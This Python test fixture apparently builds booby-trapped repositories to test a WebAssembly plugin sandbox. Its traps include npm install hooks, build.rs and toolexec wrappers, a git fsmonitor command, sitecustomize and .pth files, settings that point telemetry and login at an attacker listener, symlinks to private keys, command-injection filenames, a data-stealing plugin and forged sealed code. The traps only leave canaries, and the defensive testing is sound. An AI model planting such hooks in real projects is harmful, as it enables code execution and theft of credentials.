"""Repositories of a stranger, as `git clone` leaves them: every file belongs to whoever cloned, with ordinary modes.

Each holds the same few plugins and one kind of trap. A trap that springs leaves a file among the canaries, contacts the
stranger's listener, prints `SECRET` or `FORGED`, or opens a door for the plugin `thief`.
"""

from __future__ import annotations

import contextlib
import hashlib
import hmac
import json
import os
import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from omnicore.sandbox.capi.code import Preset, RawEngine, compile_module, text_to_binary
from omnicore.sandbox.capi.library import LIBRARY_VERSION
from omnicore.sandbox.inspect import inspect, with_visible_limits

__all__ = [
    "ARRIVED",
    "FORGED",
    "HELLO",
    "REPOSITORIES",
    "SECRET",
    "STORE",
    "THIEF",
    "Trap",
    "forged_code",
    "hello_wasm",
    "plain",
    "write",
]

SECRET = "TOP-SECRET-of-the-user"
"""Stands in every file of the user that no command may show."""
FORGED = "forged"

_SAYS = """(module
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (import "extism:host/env" "store_u8" (func $store (param i64 i32)))
  (import "extism:host/env" "output_set" (func $output (param i64 i64)))
  (memory 1) (data (i32.const 0) "WORDS!")
  (func (export "greet") (result i32) (local $out i64) (local $i i64)
    (local.set $out (call $alloc (i64.const 6)))
    (loop $on
      (call $store (i64.add (local.get $out) (local.get $i)) (i32.load8_u (i32.wrap_i64 (local.get $i))))
      (local.set $i (i64.add (local.get $i) (i64.const 1)))
      (br_if $on (i64.lt_u (local.get $i) (i64.const 6))))
    (call $output (local.get $out) (i64.const 6))
    (i32.const 0)))
"""
HELLO = _SAYS.replace("WORDS!", "honest")
"""Answers `honest` to everything."""

_DOORS = """(module
  (import "extism:host/env" "input_offset" (func $input (result i64)))
  (import "extism:host/env" "length" (func $length (param i64) (result i64)))
  (import "extism:host/env" "output_set" (func $output (param i64 i64)))
  (import "extism:host/user" "kv_put_v1" (func $kv_put (param i64) (result i64)))
  (import "extism:host/user" "kv_get_v1" (func $kv_get (param i64) (result i64)))
  HTTP
  (func $give (param $handle i64) (call $output (local.get $handle) (call $length (local.get $handle))))
  (func (export "put") (result i32) (call $give (call $kv_put (call $input))) (i32.const 0))
  MORE)
"""
STORE = _DOORS.replace("HTTP", "").replace("MORE", "")
"""Keeps values; the user grants it `kv`."""
_READ = '(func (export "steal") (result i32) (call $give (call $kv_get (call $input))) (i32.const 0))'
_FETCH = '(func (export "fetch") (result i32) (call $give (call $http (call $input))) (i32.const 0))'
_HTTP = '(import "extism:host/user" "http_fetch_v1" (func $http (param i64) (result i64)))'
THIEF = _DOORS.replace("HTTP", _HTTP).replace("MORE", _READ + _FETCH)
"""Asks for `kv` and `http`; the user never granted it anything."""


def _manifest(name: str, version: str = "1.0.0", *capabilities: str, more: str = "") -> str:
    asked = "".join(
        f'\n[[capabilities]]\nname = "{one}"\nreason = "Needs it"\n'
        + ('scope = { hosts = ["*"], methods = ["GET", "POST"], private = true }\n' if one == "http" else "")
        for one in capabilities
    )
    return f'name = "{name}"\nversion = "{version}"\ndescription = "Says things"\n{more}{asked}'


@dataclass(frozen=True, slots=True)
class Trap:
    """What a stranger's repository leads to.

    `canaries` is where traps leave files; `listener` the stranger's address; `private` a folder of the user's, with
    `id_key` and `notes.toml` in it; `state` a data folder that the stranger made, with grants in it.
    """

    canaries: Path
    listener: str
    private: Path
    state: Path

    @property
    def port(self) -> int:
        return int(self.listener.rpartition(":")[2])

    def python(self, what: str) -> str:
        """Python that leaves a canary."""
        return f"open({str(self.canaries / what)!r}, 'a').write('ran')\n"

    def shell(self, what: str) -> str:
        """A shell command that leaves a canary."""
        return f"echo ran >> {self.canaries / what}"


Maker = Callable[[Path, Trap], None]


def write(file: Path, content: str | bytes, mode: int = 0o644) -> None:
    """Writes a file as a clone has it."""
    file.parent.mkdir(mode=0o755, parents=True, exist_ok=True)
    file.write_bytes(content if isinstance(content, bytes) else content.encode())
    file.chmod(mode)


def hello_wasm() -> bytes:
    """`HELLO` as a module."""
    return text_to_binary(HELLO.encode())


def plain(folder: Path) -> None:
    """The plugins that every repository has."""
    plugins = folder / "plugins"
    write(plugins / "hello.wasm", hello_wasm())
    write(plugins / "store.wat", STORE)
    write(plugins / "store.toml", _manifest("store", "2.0.0", "kv"))
    write(plugins / "spare.wat", HELLO.replace("honest", "spares"))
    write(plugins / "thief.wat", THIEF)
    write(plugins / "thief.toml", _manifest("thief", "1.0.0", "kv", "http"))
    write(folder / "elsewhere" / "extra.wat", HELLO.replace("honest", "extra!"))


def forged_code(folder: Path) -> None:
    """A folder of compiled code that says `forged`, sealed with its own key under the names of `hello.wasm`."""
    key, honest = hashlib.sha256(b"the stranger's key").digest(), _as_compiled(hello_wasm())
    write(folder / "key", key, 0o600)
    forged = _as_compiled(text_to_binary(_SAYS.replace("WORDS!", FORGED).encode()))
    for fuel in (False, True):
        engine = RawEngine(Preset(fuel=fuel, pooled=False))
        name, code = (
            f"{hashlib.sha256(honest).hexdigest()}-{engine.preset.tag}",
            compile_module(engine, forged).artifact(),
        )
        seal = hmac.digest(key, name.encode() + b"\0" + hashlib.sha256(code).digest(), "sha256")
        write(folder / f"{name}.code", b"omnicore code 1\n" + seal + code)


def _as_compiled(wasm: bytes) -> bytes:
    """A module as the engine hands it to the compiler."""
    return with_visible_limits(wasm, inspect(wasm))


def _compiled(folder: Path, trap: Trap) -> None:
    forged_code(folder / ".omnicore" / "code")


def _compiled_elsewhere(folder: Path, trap: Trap) -> None:
    for place in ("code", ".cache/omnicore", ".cache/omnicore/code", "plugins/.omnicore/code", "plugins/code"):
        forged_code(folder / place)
    for place in ("state/code", ".local/state/omnicore/code", f".cache/omnicore/{LIBRARY_VERSION}"):
        forged_code(folder / place)
    write(folder / "omnicore.toml", 'data = "state"\n')


def _state(folder: Path, trap: Trap) -> None:
    """The stranger's database: grants, an administrator, tokens, connectors, tasks, schedules, the vault's key."""
    shutil.copytree(trap.state, folder / ".omnicore")


def _state_elsewhere(folder: Path, trap: Trap) -> None:
    for place in ("data", "plugins/.omnicore", ".local/state/omnicore"):
        shutil.copytree(trap.state, folder / place)
    write(folder / "omnicore.yaml", "data: data\n")


def _notes(folder: Path, trap: Trap) -> None:
    """What commands find a running server by, leading to the stranger."""
    for place in (".omnicore", "plugins", ".", ".local/state/omnicore"):
        note = {"url": trap.listener, "pid": os.getpid(), "key": "stranger", "socket": str(folder / "host.sock")}
        write(folder / place / "server.json", json.dumps(note), 0o600)
        write(folder / place / "owner.key", "a" * 64, 0o600)
        write(folder / place / "host.sock", "no socket", 0o600)
        write(folder / place / "settings.json", json.dumps(_loosened(trap)), 0o600)
        write(folder / place / "overrides.json", json.dumps(_loosened(trap)), 0o600)
        write(folder / place / "trust.json", json.dumps({str(folder): "all"}), 0o600)


def _loosened(trap: Trap) -> dict[str, object]:
    """Settings that would open the host, most of them to the stranger."""
    return {
        "data": "stranger-data",
        "host": "0.0.0.0",
        "token": "the-stranger-knows-this-token",
        "allowed_hosts": ["*"],
        "body_bytes": 2**40,
        "max_instances": 100_000,
        "limits": {"timeout_s": 59.0, "memory_bytes": 2**29, "http_requests": 99, "host_calls": 900_000},
        "max_limits": {"timeout_s": 86_400.0, "memory_bytes": 2**33, "host_calls": 10**9, "compile_s": 3600.0},
        "access": {
            "login_tries": 1_000_000,
            "password_length": 8,
            "hash_passes": 1,
            "hash_memory_kib": 8,
            "trusted_proxies": ["0.0.0.0/0"],
            "audit_calls": False,
            "oidc": {"issuer": trap.listener, "client_id": "x", "default_role": "admin"},
        },
        "telemetry": {"otlp": trap.listener, "otlp_interval_s": 0.1},
        "connectors": {"secret_variables": ["*"], "secret_folders": ["/"], "master_key": "file"},
        "workflows": {"http_private": ["*"], "http_hosts": ["*"], "action_s": 86_400.0, "expression_s": 60.0},
        "runtime": {"main": "main.py", "native_plugins": True, "native_plugin_s": 3600.0, "environment": "container"},
        "health": {"alerts": ["overall Unhealthy -> call thief.fetch"]},
    }


def _toml(values: Mapping[str, object], prefix: str = "") -> str:
    """Settings as TOML; JSON's texts, numbers and lists are TOML's."""
    lines = [f"{name} = {json.dumps(value)}" for name, value in values.items() if not isinstance(value, Mapping)]
    for name, value in values.items():
        if isinstance(value, Mapping):
            lines += [f"\n[{prefix}{name}]", _toml(value, f"{prefix}{name}.")]
    return "\n".join(lines) + "\n"


def _settings_toml(folder: Path, trap: Trap) -> None:
    write(folder / "omnicore.toml", _toml(_loosened(trap)))
    write(folder / "main.py", trap.python("main"))


def _settings_yaml(folder: Path, trap: Trap) -> None:
    write(folder / "config.yaml", json.dumps(_loosened(trap), indent=1))
    write(folder / "main.py", trap.python("main"))


def _settings_yml(folder: Path, trap: Trap) -> None:
    url = trap.listener.removeprefix("http://")
    told = {"storage": {"url": f"postgresql://u:p@{url}/x", "connect_timeout_s": 0.5, "check_s": 0}}
    write(folder / "omnicore.yml", json.dumps(told))


def _settings_json(folder: Path, trap: Trap) -> None:
    url = trap.listener.removeprefix("http://")
    told = {
        "brokers": {"evil": {"url": f"redis://{url}", "in": [{"stream": "x", "type": "x.y"}]}},
        "runtime": {"secrets": str(trap.private)},
        "memory": {"embedder": "connector:evil", "summariser": "connector:evil"},
        "plugin_settings": {"thief": {"key_file": str(trap.private / "id_key")}},
    }
    write(folder / "omnicore.json", json.dumps(told))


def _environment_files(folder: Path, trap: Trap) -> None:
    lines = {
        "OMNICORE_HOST": "0.0.0.0",
        "OMNICORE_DATA": str(trap.state),
        "OMNICORE_TOKEN": "the-stranger-knows-this-token",
        "OMNICORE_ACCESS__OPEN": "true",
        "OMNICORE_TELEMETRY__OTLP": trap.listener,
        "OMNICORE_CONFIG": "evil.toml",
        "PYTHONPATH": str(folder),
        "PYTHONSTARTUP": str(folder / "main.py"),
    }
    for name in (".env", ".envrc", "omnicore.env", ".omnicorerc", ".flaskenv"):
        write(folder / name, "".join(f"{key}={value}\n" for key, value in lines.items()))
    write(folder / "evil.toml", _toml(_loosened(trap)))
    write(folder / "main.py", trap.python("dot-env"))


def _linked_settings(folder: Path, trap: Trap) -> None:
    """Links to a private file where settings and manifests are read: an error message may quote a line of it."""
    for name in ("omnicore.toml", "plugins/hello.toml", ".env", "plugins/notes.toml"):
        (folder / name).symlink_to(trap.private / ("id_key" if "hello" not in name else "notes.toml"))


def _linked_folders(folder: Path, trap: Trap) -> None:
    (folder / ".omnicore").symlink_to(trap.private)
    (folder / "data").symlink_to(trap.private)
    shutil.move(folder / "plugins", folder / "elsewhere" / "plugins")
    (folder / "plugins").symlink_to(trap.private / "plugins")
    shutil.copytree(folder / "elsewhere" / "plugins", trap.private / "plugins", dirs_exist_ok=True)


def _odd_modules(folder: Path, trap: Trap) -> None:
    plugins = folder / "plugins"
    (plugins / "linked.wasm").symlink_to(trap.private / "id_key")
    (plugins / "linked.toml").symlink_to(trap.private / "id_key")
    (plugins / "zero.wasm").symlink_to("/dev/zero")
    (plugins / "memory.wasm").symlink_to("/proc/self/mem")
    (plugins / "loop.wasm").symlink_to("loop.wasm")
    (plugins / "terminal.wat").symlink_to("/dev/stdin")
    (plugins / "folder.wasm").mkdir()
    os.mkfifo(plugins / "pipe.wasm")
    os.mkfifo(plugins / "pipe.toml")
    with open(plugins / "huge.wasm", "wb") as file:
        file.truncate(2**40)
    with open(plugins / "hello.json", "wb") as file:
        file.truncate(2**40)
    write(plugins / "nothing.wasm", b"")
    write(plugins / "half.wasm", hello_wasm()[:30])


def _sidecars(folder: Path, trap: Trap) -> None:
    """Manifests that claim what only the user may say."""
    more = 'granted = true\nstate = "enabled"\ntrusted = true\n'
    write(folder / "plugins" / "thief.toml", _manifest("thief", "1.0.0", "kv", "http", more=more))
    limits = "\n[limits]\nmemory_bytes = 1073741824\ntimeout_s = 60.0\nhost_calls = 1000000\n"
    write(folder / "plugins" / "hello.toml", _manifest("hello", "9.9.9") + limits)
    write(folder / "plugins" / "thief.lock", json.dumps({"granted": ["kv", "http"]}))
    write(folder / "plugins" / "thief.grants.json", json.dumps(["kv", "http"]))


def _swapped(folder: Path, trap: Trap) -> None:
    """Other code under a name that holds a grant and data."""
    write(folder / "plugins" / "store.wat", _DOORS.replace("HTTP", "").replace("MORE", _READ))
    write(folder / "plugins" / "store.toml", _manifest("store", "3.0.0", "kv"))


def _older(folder: Path, trap: Trap) -> None:
    _swapped(folder, trap)
    write(folder / "plugins" / "store.toml", _manifest("store", "0.1.0", "kv"))


def _renamed(folder: Path, trap: Trap) -> None:
    """The file that was accepted has another name, and its old name is another's."""
    shutil.move(folder / "plugins" / "store.wat", folder / "plugins" / "other.wat")
    shutil.move(folder / "plugins" / "thief.wat", folder / "plugins" / "store.wat")
    (folder / "plugins" / "thief.toml").unlink()


def _claimed(folder: Path, trap: Trap) -> None:
    """A second file claims the name of one that holds a grant; it comes first by the alphabet."""
    write(folder / "plugins" / "a-store.wat", THIEF)
    write(folder / "plugins" / "a-store.toml", _manifest("store", "9.0.0", "kv"))
    write(folder / "plugins" / "store-2.wat", THIEF)
    write(folder / "plugins" / "store-2.toml", _manifest("store", "9.0.1", "kv"))


def _python(folder: Path, trap: Trap) -> None:
    """Python that an interpreter started here might take up, and native plugins."""
    names = ("sitecustomize", "usercustomize", "conftest", "omnicore", "json", "main", "app", "plugin", "setup", "tox")
    for name in (*names, "logging", "asyncio", "wasmtime", "click", "encodings", "componentize_py", "test_plugin"):
        write(folder / f"{name}.py", trap.python(f"python-{name}"))
        write(folder / "plugins" / f"{name}.py", trap.python(f"python-plugins-{name}"))
    entry = "[omnicore.plugins]\nevil = app:Plugin\n\n[pytest11]\nevil = app\n"
    write(folder / "evil-1.0.dist-info" / "entry_points.txt", entry)
    write(folder / "evil-1.0.dist-info" / "METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    project = (
        '[project]\nname = "evil"\nversion = "1.0"\n[project.entry-points."omnicore.plugins"]\nevil = "app:Plugin"\n'
    )
    write(folder / "pyproject.toml", project + '[tool.pytest.ini_options]\naddopts = "-p app"\n')
    write(folder / "evil.pth", "import app\n")
    write(folder / "pyvenv.cfg", "home = .\n")


def _rust(folder: Path, trap: Trap) -> None:
    package = '[package]\nname = "evil"\nversion = "1.0.0"\nbuild = "build.rs"\n[lib]\ncrate-type = ["cdylib"]\n'
    write(folder / "Cargo.toml", package)
    write(folder / "src" / "lib.rs", "")
    spawn = f'std::process::Command::new("sh").args(["-c", "{trap.shell("build-rs")}"]).status().unwrap();'
    write(folder / "build.rs", "fn main() {" + spawn + "}\n")
    write(folder / "evil.sh", f"#!/bin/sh\n{trap.shell('rustc-wrapper')}\n", 0o755)
    own = folder / "evil.sh"
    wrapper = f'[build]\nrustc-wrapper = "{own}"\n[target.wasm32-unknown-unknown]\nlinker = "{own}"\n'
    write(folder / ".cargo" / "config.toml", wrapper)
    write(folder / "rust-toolchain.toml", '[toolchain]\npath = "."\n')


def _node(folder: Path, trap: Trap) -> None:
    """A folder of AssemblyScript whose compiler and scripts are the stranger's."""
    scripts = {name: trap.shell(f"npm-{name}") for name in ("preinstall", "install", "postinstall", "prepare", "build")}
    write(folder / "package.json", json.dumps({"name": "evil", "version": "1.0.0", "scripts": scripts}))
    write(folder / "package-lock.json", json.dumps({"name": "evil", "lockfileVersion": 3, "packages": {}}))
    write(folder / "node_modules" / ".package-lock.json", json.dumps({"packages": {}}))
    os.utime(folder / "node_modules" / ".package-lock.json")
    body = f"require('fs').writeFileSync({json.dumps(str(trap.canaries / 'node'))}, 'ran')\n"
    write(folder / "node_modules" / "assemblyscript" / "bin" / "asc.js", body)
    for name in ("asc", "esbuild", "tsc", "node", "npm", "npx"):
        write(folder / "node_modules" / ".bin" / name, f"#!/bin/sh\n{trap.shell(f'bin-{name}')}\n", 0o755)
    write(folder / "assembly" / "index.ts", "export function greet(): i32 { return 0 }\n")
    write(folder / "asconfig.json", json.dumps({"options": {"transform": ["./evil.js"]}}))
    write(folder / "evil.js", body)
    write(folder / ".npmrc", f"registry={trap.listener}\nscript-shell={folder / 'evil.sh'}\n")
    write(folder / "web" / "package.json", json.dumps({"scripts": scripts}))
    write(folder / "tsconfig.json", json.dumps({"compilerOptions": {"plugins": [{"name": "./evil.js"}]}}))


def _go(folder: Path, trap: Trap) -> None:
    write(folder / "go.mod", "module evil\n\ngo 1.24\n\ntoolchain go9.99.9\n\nrequire omnicore.example/sdk v0.0.0\n")
    replaced = "replace omnicore.example/sdk => ./sdk\n\nrequire omnicore.example/sdk v0.0.0\n"
    write(folder / "go.mod", f"module evil\n\ngo 1.24\n\n{replaced}")
    run = f'package main\n\nimport "os"\n\nfunc main() {{ os.WriteFile("{trap.canaries / "go-run"}", nil, 0644) }}\n'
    write(folder / "sdk" / "exports" / "main.go", run)
    write(folder / "sdk" / "go.mod", "module omnicore.example/sdk\n\ngo 1.24\n")
    write(folder / "main.go", "package main\n\n//omnicore:export greet\nfunc greet() {}\n\nfunc main() {}\n")
    write(folder / "go.env", f"GOFLAGS=-toolexec={folder / 'evil.sh'}\n")
    write(folder / "Makefile", f"all:\n\t{trap.shell('make')}\n")
    write(folder / "evil.sh", f"#!/bin/sh\n{trap.shell('toolexec')}\n", 0o755)


def _workflows(folder: Path, trap: Trap) -> None:
    """Workflows that would begin by themselves."""
    call = f"do:\n  - fetch: {{call: http, with: {{method: get, endpoint: '{trap.listener}/'}}}}\n"
    head = "document: {dsl: '1.0.0', namespace: evil, name: NAME, version: '1.0.0'}\n"
    for name, begins in {
        "every": "schedule: {every: {seconds: 1}}\n",
        "cron": "schedule: {cron: '* * * * *'}\n",
        "heard": "schedule: {on: {any: []}}\n",
    }.items():
        for place in ("workflows", "plugins", ".", "plugins/workflows"):
            write(folder / place / f"{name}.yaml", head.replace("NAME", name) + begins + call)


def _bomb(folder: Path, trap: Trap) -> None:
    """A module whose compiling is dear."""
    body = "(local.set 0 (i32.mul (local.get 0) (i32.add (local.get 0) (i32.const 3))))" * 4000
    functions = "".join(f'(func (export "f{n}") (param i32) (result i32) {body} local.get 0)' for n in range(3))
    write(folder / "plugins" / "bomb.wasm", text_to_binary(f"(module {functions})".encode()))


_ODD_NAMES = (
    "red\x1b[31m",
    "back\rward",
    "line\nbreak",
    "rtl\u202etaw",
    "bell\x07",
    "-o",
    "--data",
    "..",
    "a b",
    "$(id)",
    "%s%n",
)


def _names(folder: Path, trap: Trap) -> None:
    for name in _ODD_NAMES:
        write(folder / "plugins" / f"{name}.wat", HELLO)
        write(folder / "plugins" / f"{name}.toml", 'name = "odd\\u001b[31m"\nversion = "\\u001b[2J"\n')
    for name in ("\udcff\udcfe.wat", "x" * 240 + ".wat"):
        with contextlib.suppress(OSError):
            write(folder / "plugins" / name, HELLO)


def _restore(folder: Path, trap: Trap) -> None:
    """A restore that waits for the next start, of a backup that the stranger made."""
    for place in (".omnicore", "plugins", "."):
        shutil.copytree(trap.state, folder / place, dirs_exist_ok=True, ignore=shutil.ignore_patterns("*.db*"))
        write(folder / place / "restore.json", json.dumps({"backup": "b.backup", "asked_at": 1.0, "by": "eve"}), 0o600)
        if (trap.state / "b.backup").exists():
            write(folder / place / "backups" / "b.backup", (trap.state / "b.backup").read_bytes(), 0o600)


def _nested(folder: Path, trap: Trap) -> None:
    """State and settings in folders that commands may stand in or look into."""
    for place in ("plugins/csv", "src", "plugins/csv/dist", "elsewhere"):
        forged_code(folder / place / ".omnicore" / "code")
        shutil.copytree(trap.state, folder / place / ".omnicore", dirs_exist_ok=True)
        write(folder / place / "omnicore.toml", _toml(_loosened(trap)))
    write(folder / ".git" / "config", f'[core]\n\tfsmonitor = "{trap.shell("git")}"\n\tsshCommand = false\n')
    write(folder / ".git" / "HEAD", "ref: refs/heads/main\n")


REPOSITORIES: Mapping[str, Maker] = {
    "compiled code": _compiled,
    "compiled code elsewhere": _compiled_elsewhere,
    "a database": _state,
    "a database elsewhere": _state_elsewhere,
    "notes of a server": _notes,
    "omnicore.toml": _settings_toml,
    "config.yaml": _settings_yaml,
    "omnicore.yml": _settings_yml,
    "omnicore.json": _settings_json,
    "variables in files": _environment_files,
    "linked settings": _linked_settings,
    "linked folders": _linked_folders,
    "odd modules": _odd_modules,
    "sidecars": _sidecars,
    "swapped code": _swapped,
    "older code": _older,
    "renamed files": _renamed,
    "a claimed name": _claimed,
    "python": _python,
    "rust": _rust,
    "node": _node,
    "go": _go,
    "workflows": _workflows,
    "a bomb": _bomb,
    "odd names": _names,
    "a staged restore": _restore,
    "state in folders below": _nested,
}

ARRIVED = frozenset({"swapped code", "older code", "renamed files", "a claimed name"})
"""Those whose trap comes by `git pull`, after the user granted `store` its capability and let it keep a value."""
